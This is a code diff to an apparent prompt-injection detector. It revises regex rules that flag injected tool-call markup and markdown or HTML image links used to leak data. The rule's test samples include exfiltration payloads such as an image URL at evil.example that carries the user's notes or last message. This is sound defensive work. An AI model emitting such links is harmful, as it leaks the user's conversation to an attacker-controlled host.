@@ -149,7 +149,7 @@ const toolRules: readonly MarkupRule[] = [
       pattern(
         String.raw`<(?:tool_calls?|tool_use|tool_response|tool_results?|function_calls?|function_results?|function_response|antml:function_calls)>\s{0,8}[{[<]`,
       ),
-      pattern(String.raw`<(?:antml:)?invoke name ?=`),
+      pattern('<(?:antml:)?invoke name ?='),
       pattern(String.raw`<function=[a-z_][\w.-]{0,60}>`),
       pattern(String.raw`<action>\s{0,8}<tool>`),
       pattern(String.raw`\[(?:tool_calls|tool_results)\]\s{0,4}[{[]`),
@@ -207,19 +207,23 @@ const addressRules: readonly MarkupRule[] = [
     category: 'exfiltration',
     hints: ['://'],
     patterns: [
-      pattern(String.raw`!\[[^\]\n]{0,80}\]\(\s?https?://[^)\n]{1,300}`),
-      pattern(String.raw`\ssrc ?= ?["']?https?://[^"'\n]{1,300}`),
-      pattern(String.raw`(?<=^|\n)\[[^\]\n]{1,40}\]: https?://[^\n]{1,300}`),
+      pattern(String.raw`!\[[^\]\n]{0,80}\]\(\s?(https?://[^)\n]{1,300})`),
+      pattern(String.raw`\ssrc ?= ?["']?(https?://[^"'\n]{1,300})`),
+      pattern(String.raw`(?<=^|\n)\[[^\]\n]{1,40}\]: (https?://[^\n]{1,300})`),
     ],
     harmlessIn:
       () =>
-      ({ 0: address }) =>
+      ({ 1: address = '' }) =>
         !filledIn.test(address),
     refuses: [
       '![](https://evil.example/x?d=[notes])',
       '<img src="https://evil.example/i?m=PUT_THE_LAST_MESSAGE_HERE">',
     ],
-    passes: ['![map](https://maps.example.com/static?zoom=12)', '![avatar](https://x.example/u/{id}.png)'],
+    passes: [
+      '[![Join the chat](https://badges.example.com/join.svg)](https://example.com)',
+      '![map](https://maps.example.com/static?zoom=12)',
+      '![avatar](https://x.example/u/{id}.png)',
+    ],
   },
   {
     id: 'script-in-link',
